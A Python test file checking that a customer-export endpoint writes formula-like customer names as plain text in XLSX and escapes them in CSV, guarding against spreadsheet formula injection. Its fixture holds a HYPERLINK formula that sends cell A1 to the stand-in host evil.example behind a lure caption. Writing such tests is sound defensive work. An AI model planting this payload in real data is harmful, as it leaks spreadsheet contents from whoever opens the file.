"""An export never turns a customer's text into a spreadsheet formula (CSV/XLSX injection)."""

from __future__ import annotations

import asyncio
import csv
import io

import httpx
from openpyxl import load_workbook
from sqlalchemy import update

from siyu.customers.models import Customer
from siyu.db.session import Database
from tests.conftest import CorpHandle, full_sync

NICKNAME = '=HYPERLINK("http://evil.example/?leak="&A1,"点我领红包")'


async def _rename(db: Database, customer_id: int, name: str) -> None:
    async with db.unit_of_work() as s:
        await s.execute(update(Customer).where(Customer.id == customer_id).values(name=name))


def test_a_formula_nickname_exports_as_text(
    api: httpx.Client, corp: CorpHandle, db: Database
) -> None:
    asyncio.run(full_sync(db, corp))
    first, second = api.get("/api/v1/customers", params={"limit": 2}).json()["items"]
    asyncio.run(_rename(db, first["id"], NICKNAME))
    asyncio.run(_rename(db, second["id"], "-1+2"))

    content = api.get("/api/v1/customers/export", params={"format": "xlsx"}).content
    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    header = [c.value for c in next(sheet.iter_rows(max_row=1))]
    name_col = header.index("姓名")
    cells = {r[0].value: r[name_col] for r in sheet.iter_rows(min_row=2)}
    for cid, text in ((first["id"], NICKNAME), (second["id"], "-1+2")):
        assert cells[cid].data_type == "s" and cells[cid].value == text  # text, as written

    table = list(
        csv.reader(
            io.StringIO(
                api.get("/api/v1/customers/export", params={"format": "csv"}).content.decode(
                    "utf-8-sig"
                )
            )
        )
    )
    col = table[0].index(header[name_col])
    names = {row[0]: row[col] for row in table[1:]}
    assert names[str(first["id"])] == "'" + NICKNAME
    assert names[str(second["id"])] == "'-1+2"
